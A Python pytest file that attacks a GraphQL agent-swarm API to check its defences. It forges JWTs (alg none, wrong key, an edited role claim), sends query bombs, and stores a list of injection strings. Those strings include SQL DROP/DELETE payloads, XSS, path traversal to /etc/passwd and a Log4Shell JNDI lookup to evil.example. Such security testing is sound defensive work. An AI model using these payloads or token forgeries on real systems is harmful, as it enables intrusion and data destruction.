"""Hostile input against the live API: forged tokens, oversized and explosive documents,
votes that break the rules, and injection strings in every text field."""

from __future__ import annotations

import base64
import json
import resource
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest

from adapters.auth import DEV_JWT_SECRET
from tests.support.server import Api, embedded_settings, running_api

AGENTS = "{ agents { nodes { id } } }"
SPAWN = """mutation($n: String!) { spawnAgent(name: $n, agentType: "coder",
  capabilities: ["python"]) { agent { id name } position errors { code field } } }"""


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    with running_api(embedded_settings(tmp_path_factory.mktemp("hostile"))) as server:
        yield server


def events(api: Api) -> int:
    import sqlite3

    with sqlite3.connect(api.settings.sqlite_path) as db:
        (count,) = db.execute("SELECT COUNT(*) FROM stored_events").fetchone()
    return int(count)


def code_of(body: dict[str, Any]) -> str:
    return str(body["errors"][0]["extensions"]["code"])


def with_token(api: Api, token: str, query: str = AGENTS) -> dict[str, Any]:
    body: dict[str, Any] = api.post(query, headers={"Authorization": f"Bearer {token}"}).json()
    return body


def _claims(role: str = "admin", **changes: Any) -> dict[str, Any]:
    now = int(time.time())
    claims = {
        "sub": "mallory",
        "role": role,
        "iat": now,
        "nbf": now,
        "exp": now + 600,
        "iss": "swarmlog",
        "aud": "swarmlog-api",
        "jti": uuid.uuid4().hex,
    }
    claims.update(changes)
    return claims


def _b64(part: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()


FORGED = {
    "alg none": lambda: f"{_b64({'alg': 'none', 'typ': 'JWT'})}.{_b64(_claims())}.",
    "wrong key": lambda: jwt.encode(_claims(), "not-the-server-secret-" * 3, algorithm="HS256"),
    "expired": lambda: jwt.encode(
        _claims(exp=int(time.time()) - 60), DEV_JWT_SECRET, algorithm="HS256"
    ),
    "not yet valid": lambda: jwt.encode(
        _claims(nbf=int(time.time()) + 3600), DEV_JWT_SECRET, algorithm="HS256"
    ),
    "another audience": lambda: jwt.encode(
        _claims(aud="someone-else"), DEV_JWT_SECRET, algorithm="HS256"
    ),
    "unknown role": lambda: jwt.encode(_claims(role="root"), DEV_JWT_SECRET, algorithm="HS256"),
}


@pytest.mark.parametrize("attack", sorted(FORGED))
def test_a_forged_token_gets_nowhere(api: Api, attack: str) -> None:
    token = FORGED[attack]()
    assert code_of(with_token(api, token)) == "UNAUTHENTICATED"
    before = events(api)
    spawn = 'mutation { spawnAgent(name: "x", agentType: "coder", capabilities: ["py"]) {'
    refused = with_token(api, token, spawn + " errors { code } } }")
    assert refused["data"]["spawnAgent"]["errors"][0]["code"] == "UNAUTHENTICATED"
    assert events(api) == before + 1  # the refusal record, nothing else


def test_a_role_raised_by_editing_the_claims_breaks_the_signature(api: Api) -> None:
    header, _, signature = api.token("viewer").split(".")
    raised = f"{header}.{_b64(_claims(role='admin', sub='test-viewer'))}.{signature}"
    assert code_of(with_token(api, raised)) == "UNAUTHENTICATED"


def test_an_oversized_body_is_refused_before_it_is_read(api: Api) -> None:
    huge = "x" * (2 << 20)
    response = httpx.post(
        f"{api.url}/graphql",
        json={"query": SPAWN, "variables": {"n": huge}},
        headers={"Authorization": f"Bearer {api.token('admin')}"},
        timeout=30,
    )
    assert response.status_code == 413
    assert response.json()["errors"][0]["extensions"]["code"] == "PAYLOAD_TOO_LARGE"


def test_an_oversized_variable_is_refused_by_validation(api: Api) -> None:
    before = events(api)
    body = api.graphql(SPAWN, {"n": "x" * 500_000})
    assert body["data"]["spawnAgent"]["errors"][0]["code"] == "VALIDATION"
    assert events(api) == before


EXPLOSIVE = {
    "too many tokens": "{ " + " ".join(f"a{i}: __typename" for i in range(3000)) + " }",
    "alias bomb": "{ " + " ".join(f"a{i}: agents {{ nodes {{ id }} }}" for i in range(200)) + " }",
    "fragment bomb": (
        "fragment A on Agent { id name state load capabilities } "
        "fragment B on AgentConnection { nodes { ...A ...A ...A ...A } } "
        "{ "
        + " ".join(f"a{i}: agents(first: 200) {{ ...B ...B ...B }}" for i in range(25))
        + " }"
    ),
    "deep nesting": "{ " + "__schema { types { fields { type { " + "ofType { " * 30 + "name"
    + " }" * 30 + " } } } } }",
    "fragment cycle": "fragment A on Query { ...B } fragment B on Query { ...A } { ...A }",
    "huge page": "{ swarms(first: 1000) { nodes { members { agentId } links { source } "
    "loadDistribution { members { load } } } } }",
}  # fmt: skip


@pytest.mark.parametrize("attack", sorted(EXPLOSIVE))
def test_explosive_documents_are_refused_and_memory_stays_bounded(api: Api, attack: str) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    body = api.graphql(EXPLOSIVE[attack])
    assert body.get("data") is None, attack
    assert body["errors"]
    assert {e["extensions"]["code"] for e in body["errors"]} <= {"BAD_REQUEST", "TOO_COMPLEX"}
    # a guard against a pathological parse, not a speed measure: generous for a loaded machine
    assert time.monotonic() - started < 60, f"{attack} took over a minute to refuse"
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mib < 200, f"{attack} grew the process by {grown_mib:.0f} MiB"


INJECTIONS = [
    "'; DROP TABLE agents; --",
    '" OR 1=1 --',
    "<script>alert('x')</script>",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "Robert'); DELETE FROM stored_events;--",
    "ünïcödé ✓ 🐝 \u202e reversed",
    "line\nbreak\ttab",
    "$where: function() { return true }",
]


def test_injection_strings_are_stored_and_returned_verbatim(api: Api) -> None:
    operator = "operator"
    for text in INJECTIONS:
        spawned = api.graphql(SPAWN, {"n": text}, role=operator)["data"]["spawnAgent"]
        assert spawned["errors"] == [], text
        assert spawned["agent"]["name"] == text.strip()
        agent, position = spawned["agent"]["id"], spawned["position"]
        read = api.graphql(
            "query($id: ID!, $at: Position) { agent(id: $id, atLeast: $at) { name } }",
            {"id": agent, "at": position},
        )
        assert read["data"]["agent"]["name"] == text.strip()
        task = api.graphql(
            """mutation($d: String!) { createTask(description: $d, taskType: "code") {
              task { id description } errors { code } } }""",
            {"d": text},
            role=operator,
        )["data"]["createTask"]
        assert task["task"]["description"] == text.strip()
    # and the tables they named are all still there
    assert api.graphql(AGENTS)["data"]["agents"]["nodes"]
    assert events(api) > 0


def test_a_nul_character_is_refused_before_it_reaches_the_log(api: Api) -> None:
    before = events(api)
    body = api.graphql(SPAWN, {"n": "nul\x00here"})
    error = body["data"]["spawnAgent"]["errors"][0]
    assert (error["code"], error["field"]) == ("VALIDATION", "name")
    assert events(api) == before


def test_votes_that_break_the_rules_are_refused_and_write_nothing(api: Api) -> None:
    def agent(name: str) -> str:
        return str(api.graphql(SPAWN, {"n": name})["data"]["spawnAgent"]["agent"]["id"])

    members = [agent(f"voter {i}") for i in range(3)]
    outsider = agent("outsider")
    swarm = api.graphql('mutation { initSwarm(name: "v", topology: "mesh") { swarm { id } } }')[
        "data"
    ]["initSwarm"]["swarm"]["id"]
    join = "mutation($s: ID!, $a: ID!) { joinSwarm(swarmId: $s, agentId: $a) { errors { code } } }"
    for member in members:
        api.graphql(join, {"s": swarm, "a": member})
    proposal = api.graphql(
        """mutation($s: ID!, $p: ID!) { createProposal(swarmId: $s, proposerId: $p,
          title: "t", value: 1, protocol: "majority") { proposal { id } } }""",
        {"s": swarm, "p": members[0]},
    )["data"]["createProposal"]["proposal"]["id"]
    vote = """mutation($p: ID!, $v: ID!) { castVote(proposalId: $p, voterId: $v, approve: true) {
      proposal { status } errors { code } } }"""

    def cast(voter: str) -> dict[str, Any]:
        payload: dict[str, Any] = api.graphql(vote, {"p": proposal, "v": voter})["data"]
        return payload["castVote"]

    before = events(api)
    assert cast(outsider)["errors"][0]["code"] == "NOT_PARTICIPANT"
    assert events(api) == before
    assert cast(members[1])["errors"] == []
    before = events(api)
    assert cast(members[1])["errors"][0]["code"] == "ALREADY_VOTED"
    assert events(api) == before
    assert cast(members[2])["proposal"]["status"] == "accepted"
    before = events(api)
    assert cast(members[0])["errors"][0]["code"] == "PROPOSAL_CLOSED"
    assert events(api) == before


def test_the_server_is_still_healthy_after_all_of_it(api: Api, tmp_path: Path) -> None:
    assert httpx.get(f"{api.url}/healthz").json() == {"status": "ok"}
    assert httpx.get(f"{api.url}/readyz").status_code == 200
